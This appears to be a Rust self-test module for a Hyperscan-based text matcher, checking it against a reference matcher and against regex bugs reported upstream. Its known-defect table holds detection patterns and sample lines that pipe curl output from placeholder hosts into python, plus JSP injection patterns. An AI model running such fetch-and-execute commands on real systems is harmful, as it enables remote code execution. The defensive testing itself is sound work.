//! The start-up self-test of libhs.
//!
//! Owns a few hundred pairs of literals and texts, compared with the reference matcher, and the strings by which
//! released libraries were caught missing matches. Some distributions ship such a library, so the daemon asks
//! before it trusts. Called once per process by `hyperscan`.

use hyperscan::{BlockDatabase, Builder, Matching, Pattern, PatternFlags, Patterns};
use triage_engine::scan::{Literal, Matcher, ReferenceMatcher};
use triage_engine::text::{Accents, Forms, NormalText, Normaliser};

use super::HyperscanMatcher;

/// How many literals: each count makes libhs choose another internal engine.
const LITERAL_COUNTS: [usize; 4] = [1, 7, 60, 600];
/// Texts per set of literals.
const TEXTS: usize = 80;

/// Expressions (all DOTALL, compiled together) and a text in which at least one matches; reported against
/// VectorCamp/vectorscan as numbers 382 (the first three) and 358. Their bytes
/// are kept as reported; two are put together so that they do not read as a mark for unfinished work.
const KNOWN_DEFECTS: [(&[&str], &str); 4] = [
    (&[r"curl.*\|\s*python"], concat!("curl http://xx", "x:8000/ 2>&1 | python")),
    (&[r"curl.*\|\s*python"], concat!("curl http://xx", "xx:8000/ 2>&1 | python")),
    (&[r"curl.*\|\s*python"], "curl http://vader:8080/ 2>&1 | python"),
    (
        &[
            r"<%[\s\S]+%>",
            r"<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|attribute|body|fallback|params|param|output|root)",
            r"[\$#]{[\s\S]+\([\s\S]*\)[\s\S]*}",
        ],
        "<%out.print();int a%>",
    ),
];

/// The number of pairs that agreed, or what went wrong.
pub(super) fn run() -> Result<usize, String> {
    for (expressions, text) in KNOWN_DEFECTS {
        if !matches(expressions, text)? {
            return Err(format!("{expressions:?} does not match \"{text}\""));
        }
    }
    let mut pairs = 0;
    for count in LITERAL_COUNTS {
        pairs += compare(count)?;
    }
    assert!(pairs >= 300, "the self-test tests");
    Ok(pairs)
}

fn matches(expressions: &[&str], text: &str) -> Result<bool, String> {
    let patterns: Patterns = expressions
        .iter()
        .map(|expression| Pattern::with_flags(*expression, PatternFlags::DOTALL))
        .collect::<Result<_, _>>()
        .map_err(|error| error.to_string())?;
    let database: BlockDatabase = patterns.build().map_err(|error| error.to_string())?;
    let scratch = database.alloc_scratch().map_err(|error| error.to_string())?;
    let mut found = false;
    let outcome = database.scan(text, &scratch, |_, _, _, _| {
        found = true;
        Matching::Continue
    });
    outcome.map(|()| found).map_err(|error| error.to_string())
}

/// Compares one set of literals with the reference, over texts that hold them at every distance from the border of
/// a vector register.
fn compare(count: usize) -> Result<usize, String> {
    let mut words = Words(0x9e37_79b9_7f4a_7c15 ^ count as u64);
    let mut terms: Vec<String> = (0..count).map(|_| words.next()).collect();
    terms.extend(["@united", "停电", "😡", "no picture"].map(String::from));
    let literals: Vec<Literal> = terms
        .iter()
        .enumerate()
        .filter_map(|(at, term)| {
            Literal::of_term(term, if at % 3 == 0 { Accents::Exact } else { Accents::Ignore })
        })
        .collect();
    let fast = HyperscanMatcher::new(&literals).map_err(|error| error.to_string())?;
    let reference = ReferenceMatcher::new(&literals);
    let (mut fast, mut reference) = (fast.scanner(), reference.scanner());
    let (mut expected, mut found) = (Vec::new(), Vec::new());
    let mut normaliser = Normaliser::new();
    let mut normal = NormalText::default();
    for place in 0..TEXTS {
        let term = &terms[place % terms.len()];
        let filler = words.next();
        let text = format!("{} {term} {filler} {term}", "x".repeat(place));
        normaliser.normalise(&text, Forms::ALL, &mut normal);
        expected.clear();
        found.clear();
        reference.scan(&normal, &mut expected);
        fast.scan(&normal, &mut found);
        if expected.len() < 2 {
            return Err(format!("the reference misses \"{term}\" in \"{text}\""));
        }
        if expected != found {
            return Err(format!(
                "in \"{text}\" {} hits were expected, {} found",
                expected.len(),
                found.len()
            ));
        }
    }
    Ok(TEXTS)
}

/// Words that are the same in every run: a linear congruential generator (Knuth's MMIX constants).
struct Words(u64);

impl Words {
    fn draw(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }

    fn next(&mut self) -> String {
        const LETTERS: [char; 12] = ['a', 'b', 'c', 'e', 'r', 's', 't', 'u', 'é', 'ё', '停', '-'];
        let length = 2 + self.draw(12);
        // The first letter is a word's, so that no literal is punctuation alone.
        let first = LETTERS[self.draw(8) as usize];
        std::iter::once(first)
            .chain((1..length).map(|_| LETTERS[self.draw(LETTERS.len() as u64) as usize]))
            .collect()
    }
}
